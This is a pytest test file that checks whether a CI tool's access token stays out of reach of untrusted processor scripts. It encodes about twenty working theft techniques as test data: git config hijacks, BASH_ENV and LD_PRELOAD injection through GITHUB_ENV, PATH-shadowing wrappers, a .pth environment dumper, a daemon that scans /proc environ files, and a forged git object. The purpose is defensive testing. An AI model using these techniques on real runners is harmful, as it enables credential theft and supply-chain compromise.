"""The token stays out of the reach of processors: each way to it that ever worked, against one job and against two."""

from __future__ import annotations

import secrets
import shutil
import subprocess
from typing import TYPE_CHECKING, NamedTuple

import pytest

from tests.action.git_server import basic

if TYPE_CHECKING:
    from pathlib import Path

    from tests.action.conftest import World
    from tests.action.git_server import GitServer


class Way(NamedTuple):
    """`script`: what a processor does, in bash. `refused`: it is seen, and nothing is pushed, in one job; `twice`: and in
    two, since it is in the bundle."""

    script: str
    refused: bool = False
    twice: bool = False


CONFIGURE = 'set() { git config "$@"; git config --global "$@"; }\n'
WAYS = {
    "pushurl": Way(
        'git config remote.origin.pushurl "ext::$LOOT/thief %S"; git config protocol.ext.allow always'
    ),
    "core.sshCommand": Way(
        'set core.sshCommand "$LOOT/thief"; git config remote.origin.pushurl ssh://git@127.0.0.1/x'
    ),
    "insteadOf": Way('set "url.ext::$LOOT/thief .insteadOf" "$SERVER/"; set protocol.ext.allow always'),
    "a merge driver": Way(
        'mkdir -p .git/info; echo "* merge=thief" >.git/info/attributes; set merge.thief.driver "$LOOT/thief"; '
        'sed -i s/one/two/ "$PERSON/b.txt"; '
        'git -C "$PERSON" -c user.name=x -c user.email=x@example.com commit -qam Meanwhile; git -C "$PERSON" push -q origin HEAD:main; '
        "sed -i s/last/end/ b.txt"
    ),
    "a proxy without TLS": Way("set http.proxy http://127.0.0.1:1; set http.sslVerify false"),
    "core.hooksPath": Way(
        'set core.hooksPath "$LOOT/hooks"; mkdir -p .git/hooks; cp "$LOOT/hooks/pre-push" .git/hooks/'
    ),
    "credential.helper": Way('set credential.helper "!$LOOT/thief"; set http.emptyAuth true'),
    "include.path": Way(
        'git config -f "$LOOT/more" remote.origin.pushurl "ext::$LOOT/thief %S"; '
        'git config -f "$LOOT/more" protocol.ext.allow always; set include.path "$LOOT/more"'
    ),
    "BASH_ENV": Way('echo "BASH_ENV=$LOOT/start-up" >>"$GITHUB_ENV"'),
    "a function of bash": Way(
        'printf "%s\\n" "BASH_FUNC_printf%%=() { $LOOT/thief; }" "BASH_FUNC_exec%%=() { $LOOT/thief; }" >>"$GITHUB_ENV"'
    ),
    "LD_PRELOAD": Way('echo "LD_PRELOAD=$LOOT/thief.so" >>"$GITHUB_ENV"'),
    "git's variables": Way(
        'printf "%s\\n" "GIT_TRACE_CURL=$LOOT/trace" GIT_TRACE_REDACT=0 "GIT_EXEC_PATH=$LOOT/bin" '
        '"GIT_SSH_COMMAND=$LOOT/thief" GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath '
        '"GIT_CONFIG_VALUE_0=$LOOT/hooks" "GIT_CONFIG_GLOBAL=$LOOT/more" >>"$GITHUB_ENV"'
    ),
    "GITHUB_PATH": Way('echo "$LOOT/bin" >>"$GITHUB_PATH"'),
    "the tool's own files": Way(
        "for place in $RUNNER_TEMP/mdtodo-*/lib/python*/site-packages; do "
        "echo \"import os; open('$LOOT/stolen', 'a').write(str(dict(os.environ)))\" >$place/thief.pth; done",
        refused=True,
    ),
    "the tool's own Python": Way(
        'for bin in $RUNNER_TEMP/mdtodo-*/bin; do rm $bin/python; cp "$LOOT/thief" $bin/python; done',
        refused=True,
    ),
    "a daemon": Way('(setsid "$LOOT/daemon" >"$LOOT/out" 2>&1 &)'),
    "replace refs": Way(
        'export GIT_INDEX_FILE="$LOOT/index"; git read-tree HEAD; '
        "git update-index --add --cacheinfo 100644,$(echo evil | git hash-object -w --stdin),evil.txt; "
        "evil=$(git -c user.name=x -c user.email=x@example.com commit-tree -m Evil $(git write-tree)); "
        'git replace HEAD $evil; mkdir -p .git/info; echo "$(git rev-parse HEAD)" >.git/info/grafts',
        refused=True,
        twice=True,
    ),
    "alternates": Way(
        'git init -q "$LOOT/other"; git -C "$LOOT/other" config protocol.ext.allow always; '
        'echo "$LOOT/other/.git/objects" >.git/objects/info/alternates; '
        'git config core.alternateRefsCommand "$LOOT/thief"'
    ),
    "a forged object": Way('python3 "$LOOT/forge.py"', refused=True, twice=True),
}

TAKE = """{ /usr/bin/env; /usr/bin/tr '\\0' '\\n' </proc/$PPID/environ; } >>"LOOT/stolen" 2>/dev/null\n"""
THIEF = f"#!/bin/sh\n{TAKE}exit 0\n"
#: In place of a program of the system, and nobody notices.
DOUBLE = f'#!/bin/sh\n{TAKE}PATH=/usr/bin:/bin exec "$(/usr/bin/basename "$0")" "$@"\n'
DAEMON = """\
#!/bin/bash
trap '' TERM HUP INT
for turn in {1..600}; do
    for file in /proc/[0-9]*/environ; do
        grep -asE 'TOKENS' "$file"
    done >>"LOOT/stolen" 2>/dev/null
    sleep 0.02
done
"""
#: The configuration that was checked out becomes another one under the same id, and a commit uses what that allows.
FORGE = """\
import hashlib, os, pathlib, subprocess, zlib
git = lambda *args, **more: subprocess.run(["git", *args], check=True, capture_output=True, text=True, **more).stdout
packs = [*pathlib.Path(".git/objects/pack").glob("*.pack")]
for pack in packs:
    data = pack.read_bytes()
    for part in (pack, *pack.parent.glob(pack.stem + ".*")):
        part.unlink(missing_ok=True)
    subprocess.run(["git", "unpack-objects", "-q"], input=data, check=True)
oid = git("rev-parse", "HEAD:.mdtodo.toml").strip()
forged = b'[processors.good]\\nrun = "true"\\noutputs = ["**"]\\n'
path = pathlib.Path(".git/objects", oid[:2], oid[2:])
path.chmod(0o644)
path.write_bytes(zlib.compress(b"blob %d\\0" % len(forged) + forged))
pathlib.Path("evil.txt").write_text("evil")
git("add", "evil.txt")
trailers = "Mdtodo-Run: r1\\nMdtodo-Task: good done good exit=0 time=1.0 attempt=1"
git("-c", "user.name=x", "-c", "user.email=x@example.com", "commit", "-qm", "todo: Good\\n\\n" + trailers)
"""
LIBRARY = """\
#include <stdio.h>
#include <unistd.h>
extern char **environ;
__attribute__((constructor)) static void take(void) {
    FILE *file = fopen("LOOT/stolen", "a");
    for (char **one = environ; file && *one; one++) fprintf(file, "%s\\n", *one);
    if (file) fclose(file);
}
"""


class Thief:
    """What a processor finds on the machine, as if it had brought it, and what came of it."""

    def __init__(self, folder: Path, token: str) -> None:
        self.folder, self.secrets = folder, (token, basic(token))
        for name in ("bin", "hooks"):
            (folder / name).mkdir(parents=True)
        program = self.write("thief", THIEF)
        self.write("daemon", DAEMON.replace("TOKENS", "|".join(self.secrets)))
        self.write("forge.py", FORGE)
        self.write("start-up", TAKE)
        for name in ("bash", "sh", "env", "git", "git-remote-http", "python3", "python", "find", "sha256sum"):
            self.write(f"bin/{name}", DOUBLE)
        for name in ("pre-push", "reference-transaction", "post-index-change", "post-checkout"):
            shutil.copy(program, folder / "hooks" / name)
        source = self.write("thief.c", LIBRARY)
        if shutil.which("cc"):
            subprocess.run(["cc", "-shared", "-fPIC", "-o", folder / "thief.so", source], check=True)

    def write(self, name: str, text: str) -> Path:
        path = self.folder / name
        path.write_text(text.replace("LOOT", str(self.folder)))
        path.chmod(0o755)
        return path

    def has_token(self) -> bool:
        files = (
            path.read_bytes() for path in self.folder.rglob("*") if path.is_file() and path.name != "daemon"
        )
        return any(secret.encode() in data for data in files for secret in self.secrets)


@pytest.fixture
def thief(tmp_path: Path, world: World, server: tuple[str, type[GitServer]]) -> Thief:
    """In search of a token that no other test has, as all of them run on one machine."""
    world.token = server[1].token = f"ghs_{secrets.token_hex(20)}"
    return Thief(tmp_path / "loot", world.token)


def prepare(world: World, url: str, thief: Thief, script: str) -> None:
    """A repository whose one task takes that way, and is done well all the same."""
    names = {"LOOT": thief.folder, "SERVER": url, "PERSON": world.person.root}
    lines = ["export PATH=/usr/bin:/bin:$PATH", *(f"{name}={value}" for name, value in names.items())]
    lines += [
        f"git remote set-url origin {url}/octo/shop.git",
        CONFIGURE,
        f"{{ {script}; }} || touch $LOOT/failed",
        "exit 0",
    ]
    config = '[processors.good]\nrun = ["bash", "attack.sh"]\noutputs = ["b.txt"]\n'
    world.bare.git("config", "http.receivepack", "true")
    files = {"attack.sh": "\n".join(lines), ".mdtodo.toml": config, "b.txt": "one\n\n\n\nlast\n"}
    world.push("Attack", **files, **{"TODO.md": "- [ ] Good run:good id:good\n"})


def check(world: World, thief: Thief, start: str, *, pushed: bool) -> None:
    """The token is where it was, and what was pushed is a receipt and nothing else."""
    assert not (thief.folder / "failed").exists()
    assert not thief.has_token()
    assert world.bare.git("for-each-ref", "--format=%(refname)") == "refs/heads/main"
    made = world.bare.git("log", "--format=%s", f"{start}..main").split("\n")
    assert ("todo: Good" in made) is pushed
    changed = world.bare.git("diff", "--name-only", start, "main").split()
    assert set(changed) <= {"TODO.md", "b.txt"}
    world.bare.git("fsck", "--strict", "--no-dangling")


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.sample(5)
def test_the_token_stays_out_of_reach_in_one_job(
    way: str, world: World, server: tuple[str, type[GitServer]], thief: Thief, tmp_path: Path
) -> None:
    world.temp = tmp_path / "temp"
    world.temp.mkdir()
    prepare(world, server[0], thief, WAYS[way].script)
    start = world.bare.git("rev-parse", "main")
    ended = world.act(payload=world.payload("0" * 40), env={"GITHUB_SERVER_URL": server[0]})
    assert ended.code == (3 if WAYS[way].refused else 0), f"{ended.log}{ended.annotations}"
    check(world, thief, start, pushed=not WAYS[way].refused)


@pytest.mark.slow
@pytest.mark.parametrize("way", WAYS)
@pytest.mark.sample(5)
def test_the_token_stays_out_of_reach_in_two_jobs(
    way: str, world: World, server: tuple[str, type[GitServer]], thief: Thief
) -> None:
    prepare(world, server[0], thief, WAYS[way].script)
    start = world.bare.git("rev-parse", "main")
    _, push = world.two_jobs(world.payload("0" * 40), env={"GITHUB_SERVER_URL": server[0]})
    assert push is not None
    assert push.ended.code == (3 if WAYS[way].twice else 0), push.ended.log
    check(world, thief, start, pushed=not WAYS[way].twice)
